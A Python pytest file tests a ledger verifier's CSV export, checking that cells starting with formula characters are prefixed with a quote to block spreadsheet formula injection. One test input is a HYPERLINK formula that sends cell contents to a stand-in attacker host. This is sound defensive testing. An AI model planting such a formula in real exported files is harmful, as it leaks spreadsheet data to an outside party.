"""CSV cells that would start a spreadsheet formula get a single quote in front (OWASP)."""

from __future__ import annotations

import pytest

from ledger.verifier.spreadsheet import csv_row, csv_text


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_a_formula_is_written_as_text(text: str) -> None:
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "user-10482", "2026-03-05T12:00:00Z", "a=b", "'quoted", " =1"]
)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert csv_text(text) == text


def test_a_register_row_joins_lists_and_neutralises_text_only() -> None:
    row = {"seq": 3, "name": "=1+1", "categories": ["-x", "contact"], "flag": True, "none": None}
    assert csv_row(row.values()) == [3, "'=1+1", "'-x;contact", "true", ""]
